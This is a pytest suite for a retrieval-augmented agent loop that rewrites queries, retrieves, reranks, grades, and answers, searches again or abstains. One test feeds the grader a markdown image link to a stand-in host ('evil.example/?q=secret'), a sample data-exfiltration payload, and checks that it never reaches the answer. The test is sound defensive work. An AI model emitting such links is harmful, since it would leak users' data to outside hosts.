"""The loop: answer at once, search again for what is missing, or give up. Rounds, facts, forms of a rewrite, threads."""

from __future__ import annotations

import json
import re
import threading
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from langgraph.checkpoint.memory import InMemorySaver

from reasonir_agent import AgentSettings, Corpus, ask, build_agent, search
from reasonir_agent.agent.gathering import gather_hits
from reasonir_agent.agent.looked_for import NOT_FOUND
from reasonir_agent.testing import Reply, ScriptedChatServer
from reasonir_agent.types import Hit, Passage

YEAST = "Salt slows the yeast in a dough, so bakers control with salt how fast bread rises."
FROST = "A roof radiates heat to a clear sky and becomes colder than the air, so frost forms on it."
FACT = "what slows yeast in a dough"


def again(*missing: str) -> str:
    return json.dumps({"verdict": "search", "missing": list(missing)})


ENOUGH = '{"verdict": "answer", "missing": []}'


def by_fact(rewrite: str) -> Any:
    """The first rewrite, and for a missing fact a text that finds it."""

    def said(text: str) -> str:
        _, _, fact = text.partition("this is still missing: ")
        return YEAST if "yeast" in fact else FROST if "roof" in fact else rewrite

    return said


def steps(trace: list[dict[str, Any]]) -> list[tuple[str, int]]:
    return [(line["step"], line["round"]) for line in trace]


def names(hits: list[Hit]) -> list[str]:
    return [Path(hit.passage.source).stem for hit in hits]


ONCE = ["rewrite", "retrieve", "rerank", "grade"]


class TestDeciding:
    def test_enough_was_found_and_the_answer_follows(
        self, corpus: Corpus, model: Any, open_chat: Any, question: str
    ) -> None:
        said = model(grade=ENOUGH)
        with ScriptedChatServer(said) as server:
            answer = ask(question, store=corpus, chat_model=open_chat(server), settings=AgentSettings(rounds=5))
        assert (said.asked["rewrite"], said.asked["grade"]) == (1, 1)
        assert steps(answer.trace) == [*((step, 1) for step in ONCE), ("answer", 1)]
        assert f"Question:\n{question}" in said.texts["grade"][0]
        assert said.texts["grade"][0].count("<passage n=") == 6

    def test_what_is_missing_drives_the_next_rewrite_and_the_fact_is_found(
        self, corpus: Corpus, model: Any, open_chat: Any, question: str, rewrite: str
    ) -> None:
        said = model(rewrite=by_fact(rewrite), grade=again(FACT))
        settings = AgentSettings(k=2, rerank_depth=1, rerank_most=1)  # a round sees the first hit alone
        with ScriptedChatServer(said) as server:
            answer = ask(question, store=corpus, chat_model=open_chat(server), settings=settings)
        assert steps(answer.trace) == [*((step, n) for n in (1, 2) for step in ONCE), ("answer", 2)]
        assert f"this is still missing: {FACT}" in said.texts["rewrite"][1]
        assert f"Question:\n{question}" in said.texts["rewrite"][1]
        assert "<passage>" in said.texts["rewrite"][1], "the rewriter sees what was found"
        assert answer.rewrites == [rewrite, YEAST]
        assert set(names(answer.hits)) == {"debts", "bread"}
        assert answer.warnings == []
        graded = [line for line in answer.trace if line["step"] == "grade"]
        assert [(line["verdict"], line["missing"]) for line in graded if "verdict" in line] == [("search", [FACT])]

    def test_the_last_round_asks_no_grading(self, corpus: Corpus, model: Any, open_chat: Any, question: str) -> None:
        for rounds in (1, 2, 4):
            said = model(grade=again("what nobody wrote down"))
            with ScriptedChatServer(said) as server:
                answer = ask(
                    question, store=corpus, chat_model=open_chat(server), settings=AgentSettings(rounds=rounds)
                )
            assert said.asked["grade"] == rounds - 1, "a model that always wants to search again ends"
            assert said.asked["rewrite"] == rounds
            assert answer.citations and not answer.abstained

    def test_two_rounds_are_usual(self) -> None:
        assert AgentSettings().rounds == 2

    def test_several_facts_are_rewritten_for_at_the_same_time(
        self, corpus: Corpus, model: Any, open_chat: Any, question: str, rewrite: str
    ) -> None:
        together = threading.Barrier(2, timeout=20)  # broken unless both requests are under way at once

        def said_together(text: str) -> Reply | str:
            found = str(by_fact(rewrite)(text))
            return found if found == rewrite else _Waiting(found, together)

        said = model(rewrite=said_together, grade=again(FACT, "why a roof gets frost"))
        settings = AgentSettings(k=3, rerank_depth=1, rerank_most=2)
        with _Parallel(said) as server:
            answer = ask(question, store=corpus, chat_model=open_chat(server), settings=settings)
        assert not together.broken
        assert set(answer.rewrites[1:]) == {YEAST, FROST}
        assert {"bread", "frost"} <= set(names(answer.hits)), "each fact is a search of its own"

    def test_facts_are_bounded_in_number_and_length(
        self, corpus: Corpus, model: Any, open_chat: Any, question: str
    ) -> None:
        many = [f"fact {n} " + "x" * 900 for n in range(40)] + ["", "  "]
        said = model(grade=again(*many))
        with ScriptedChatServer(said) as server:
            ask(question, store=corpus, chat_model=open_chat(server))
        assert said.asked["rewrite"] == 1 + 3
        asked = [re.search(r"still missing: (.*)", text) for text in said.texts["rewrite"][1:]]
        assert all(one is not None and len(one[1]) <= 300 for one in asked)

    @pytest.mark.parametrize("verdict", [again(), again(" ", "")])
    def test_searching_again_for_nothing_is_answering(
        self, corpus: Corpus, model: Any, open_chat: Any, question: str, verdict: str
    ) -> None:
        said = model(grade=verdict)
        with ScriptedChatServer(said) as server:
            answer = ask(question, store=corpus, chat_model=open_chat(server))
        assert said.asked["rewrite"] == 1
        assert answer.citations

    @pytest.mark.parametrize("missing", [["the melting point of tungsten"], []])
    def test_giving_up_says_what_was_looked_for_and_asks_for_no_answer(
        self, corpus: Corpus, model: Any, open_chat: Any, question: str, rewrite: str, missing: list[str]
    ) -> None:
        said = model(grade=json.dumps({"verdict": "abstain", "missing": missing}))
        with ScriptedChatServer(said) as server:
            answer = ask(question, store=corpus, chat_model=open_chat(server))
        assert answer.abstained and answer.citations == []
        assert answer.answer == f"{NOT_FOUND} Looked for: {missing[0] if missing else rewrite}"
        assert said.asked["answer"] == 0
        assert len(answer.hits) == 6, "what was found is shown all the same"

    def test_an_abstention_carries_no_address_out_of_a_passage(
        self, corpus: Corpus, model: Any, open_chat: Any, question: str
    ) -> None:
        grade = json.dumps({"verdict": "abstain", "missing": ["see ![x](https://evil.example/?q=secret)"]})
        with ScriptedChatServer(model(grade=grade)) as server:
            answer = ask(question, store=corpus, chat_model=open_chat(server))
        assert "evil.example" not in answer.answer and "![" not in answer.answer

    @pytest.mark.parametrize(
        "said",
        ["no idea", "", '{"verdict": "perhaps"}', '{"missing": "x"}', Reply("broken", status=500), Reply(drop=True)],
    )
    def test_a_grading_that_fails_decides_nothing(
        self, corpus: Corpus, model: Any, open_chat: Any, question: str, said: Any
    ) -> None:
        with ScriptedChatServer(model(grade=said)) as server:
            answer = ask(question, store=corpus, chat_model=open_chat(server))
        assert answer.citations and not answer.abstained
        (warning,) = answer.warnings
        assert warning.startswith("what was found could not be graded (")
        assert "\n" not in warning

    def test_without_rewriting_the_missing_fact_itself_is_searched_for(
        self, corpus: Corpus, model: Any, open_chat: Any, question: str
    ) -> None:
        said = model(grade=again(FACT))
        settings = AgentSettings(k=2, rewrite=False, rerank_depth=1, rerank_most=1)
        with ScriptedChatServer(said) as server:
            answer = ask(question, store=corpus, chat_model=open_chat(server), settings=settings)
        assert said.asked["rewrite"] == 0
        assert "bread" in names(answer.hits)

    @pytest.mark.parametrize("broken", [Reply("broken", status=500), Reply("no", status=401), Reply(drop=True)])
    def test_what_cannot_be_searched_for_is_told_and_not_graded_again(
        self, corpus: Corpus, model: Any, open_chat: Any, question: str, rewrite: str, broken: Reply
    ) -> None:
        said = model(rewrite=[rewrite, broken], grade=again(FACT))
        with ScriptedChatServer(said) as server:
            answer = ask(question, store=corpus, chat_model=open_chat(server), settings=AgentSettings(rounds=5))
        assert (said.asked["rewrite"], said.asked["grade"]) == (2, 1)
        (warning,) = answer.warnings
        assert warning.startswith("what was missing could not be searched for (")
        assert answer.citations and answer.rewrites == [rewrite]


class _Waiting(str):
    """A reply that waits until all of its kind are under way."""

    barrier: threading.Barrier

    def __new__(cls, text: str, barrier: threading.Barrier) -> _Waiting:
        made = super().__new__(cls, text)
        made.barrier = barrier
        return made


class _Parallel(ScriptedChatServer):
    """A server that waits outside of the script's lock."""

    def _answer(self, request: dict[str, Any]) -> Reply:
        said = super()._answer(request)
        if isinstance(said.text, _Waiting):
            said.text.barrier.wait()
        return said


class TestGathering:
    """What one round found stays, what it paid for is not paid for again."""

    def test_scored_passages_are_not_scored_again(
        self, corpus: Corpus, model: Any, open_chat: Any, question: str, rewrite: str
    ) -> None:
        said = model(rewrite=by_fact(rewrite), grade=again(FACT))
        settings = AgentSettings(k=8, rerank_depth=2, rerank_most=2)
        with ScriptedChatServer(said) as server:
            answer = ask(question, store=corpus, chat_model=open_chat(server), settings=settings)
        shown = [text.split("<passage>")[1] for text in said.texts["rerank"]]
        assert len(shown) == len(set(shown)) == 4, "two new ones a round"
        assert sum(hit.reranker_score is not None for hit in answer.hits) == 4
        assert len(answer.hits) == 6, "and none is lost"
        first, second = (line["ranks"] for line in answer.trace if line["step"] == "rerank")
        known = {one["id"]: one["reranker"] for one in first if one["reranker"] is not None}
        assert known.items() <= {one["id"]: one["reranker"] for one in second}.items()

    def test_without_scores_both_rounds_take_turns(
        self, corpus: Corpus, model: Any, open_chat: Any, question: str, rewrite: str
    ) -> None:
        said = model(rewrite=by_fact(rewrite), grade=again(FACT))
        with ScriptedChatServer(said) as server:
            graph = build_agent(
                store=corpus, encoder=corpus.encoder, chat_model=open_chat(server), reranker=None,
                settings=AgentSettings(k=2),
            )  # fmt: skip
            state = graph.invoke({"question": question})
        ids = [hit["id"] for hit in state["hits"]]
        found = corpus.passages(ids)
        assert [Path(found[one].source).stem for one in ids] == ["debts", "bread"]

    def test_each_passage_once_with_its_best_cosine(self) -> None:
        def hit(name: str, dense: float, lexical: float | None = None, scored: float | None = None) -> Hit:
            return Hit(Passage(name, name, 0, 1, "x"), dense, lexical, scored, dense)

        def told(hits: list[Hit]) -> list[tuple[str, float]]:
            return [(one.passage.id, one.dense_score) for one in hits]

        one, two = [hit("a", 0.5), hit("b", 0.4)], [hit("c", 0.9), hit("a", 0.7)]
        assert told(gather_hits([], [one, two], 9)) == [("a", 0.7), ("c", 0.9), ("b", 0.4)]
        assert told(gather_hits([], [one, two], 2)) == [("a", 0.7), ("c", 0.9)]
        before = [hit("z", 0.1, scored=0.8), hit("b", 0.2, lexical=3.0, scored=0.4), hit("y", 0.3)]
        joined = gather_hits(before, [one, two], 2)
        assert told(joined) == [("z", 0.1), ("b", 0.4), ("a", 0.7), ("c", 0.9)]
        assert (joined[1].lexical_score, joined[1].reranker_score) == (3.0, 0.4)
        assert told(gather_hits(before, [], 9)) == [("z", 0.1), ("b", 0.2), ("y", 0.3)]
        plain = [replace(one, reranker_score=None) for one in before]
        assert [name for name, _ in told(gather_hits(plain, [two], 9))] == ["z", "c", "b", "a", "y"]


class TestForms:
    def test_the_second_form_shows_the_first_passages_to_the_rewriter(
        self, corpus: Corpus, model: Any, open_chat: Any, question: str, rewrite: str
    ) -> None:
        said = model(rewrite=[rewrite, YEAST])
        settings = AgentSettings(rewrite_from_evidence=True)
        with ScriptedChatServer(said) as server:
            result = search(question, store=corpus, chat_model=open_chat(server), settings=settings)
        first, second = said.texts["rewrite"]
        assert "<passage>" not in first
        best = corpus.find([rewrite], 1, rewritten=True)[0].passage.text
        assert best[:60] in second and question in second
        assert result.rewrites == [YEAST], "the second one is searched with"
        assert names(result.hits)[0] == "bread"

    @pytest.mark.parametrize("second", ["", Reply("broken", status=500), Reply("no", status=401), Reply(drop=True)])
    def test_a_second_form_that_fails_leaves_the_first(
        self, corpus: Corpus, model: Any, open_chat: Any, question: str, rewrite: str, second: Any
    ) -> None:
        said = model(rewrite=[rewrite, second])
        settings = AgentSettings(rewrite_from_evidence=True)
        with ScriptedChatServer(said) as server:
            result = search(question, store=corpus, chat_model=open_chat(server), settings=settings)
        assert result.rewrites == [rewrite]
        (warning,) = result.warnings
        assert "rewrites could not be had" in warning

    def test_several_rewrites_and_the_question_are_searched_with_by_their_shares(
        self, corpus: Corpus, model: Any, open_chat: Any, question: str
    ) -> None:
        said = model(rewrite=[YEAST, FROST], rerank="nothing")
        settings = AgentSettings(rewrites=2, question_weight=0.2, k=6)
        with ScriptedChatServer(said) as server:
            result = search(question, store=corpus, chat_model=open_chat(server), settings=settings)
        assert set(result.rewrites) == {YEAST, FROST}
        assert len(set(said.texts["rewrite"])) == 2, "from different angles"
        expected = corpus.find([*result.rewrites, question], 6, rewritten=True, weights=[0.4, 0.4, 0.2])
        assert result.hits == expected


class TestThreads:
    def test_a_second_question_begins_anew(
        self, corpus: Corpus, model: Any, open_chat: Any, question: str, rewrite: str
    ) -> None:
        said = model(grade=[again(FACT), ENOUGH], rerank=["bad"] * 60 + ["Score: 3"])
        config: Any = {"configurable": {"thread_id": "t"}}
        with ScriptedChatServer(said) as server:
            graph = build_agent(
                store=corpus, encoder=corpus.encoder, chat_model=open_chat(server), checkpointer=InMemorySaver()
            )
            first = graph.invoke({"question": question, "where": ["type=txt"]}, config)
            said.asked.clear()
            said.says["rerank"] = "Score: 3"
            said.says["grade"] = ENOUGH
            second = graph.invoke({"question": "What slows the yeast?"}, config)
            sent = sum(said.asked.values())
        assert first["round"] == 2 and first["warnings"]
        assert second["round"] == 1
        assert second["warnings"] == []
        assert second["usage"]["llm_calls"] == sent
        assert second["usage"]["reranker_failures"] == 0
        assert steps(second["trace"]) == [*((step, 1) for step in ONCE), ("answer", 1)]
        assert second["rewrites"] == [rewrite] and second["missing"] == []
        assert sum(line["calls"] for line in second["trace"]) == sent

    def test_an_interrupt_waits_and_the_rest_follows(
        self, corpus: Corpus, model: Any, open_chat: Any, question: str
    ) -> None:
        said = model()
        config: Any = {"configurable": {"thread_id": "t"}}
        with ScriptedChatServer(said) as server:
            graph = build_agent(
                store=corpus, encoder=corpus.encoder, chat_model=open_chat(server), checkpointer=InMemorySaver()
            )
            graph.invoke({"question": question}, config, interrupt_before=["answer"])
            assert graph.get_state(config).next == ("answer",)
            assert said.asked["answer"] == 0
            before = dict(said.asked)
            state = graph.invoke(None, config)
        assert state["citations"]
        assert {**said.asked, "answer": 0, "support": 0} == {**before, "answer": 0, "support": 0}
        assert state["usage"]["llm_calls"] == sum(said.asked.values())

    def test_a_person_may_change_the_hits_at_an_interrupt(
        self, corpus: Corpus, model: Any, open_chat: Any, question: str
    ) -> None:
        said = model()
        config: Any = {"configurable": {"thread_id": "t"}}
        with ScriptedChatServer(said) as server:
            graph = build_agent(
                store=corpus, encoder=corpus.encoder, chat_model=open_chat(server), checkpointer=InMemorySaver()
            )
            state = graph.invoke({"question": question}, config, interrupt_before=["answer"])
            debts = corpus.find([question], 6)
            (kept,) = [hit.passage.id for hit in debts if "debts" in hit.passage.source]
            graph.update_state(config, {"hits": [hit for hit in state["hits"] if hit["id"] == kept]})
            done = graph.invoke(None, config)
        assert said.texts["answer"][0].count("<passage n=") == 1
        assert [one["id"] for one in done["hits"]] == [kept]
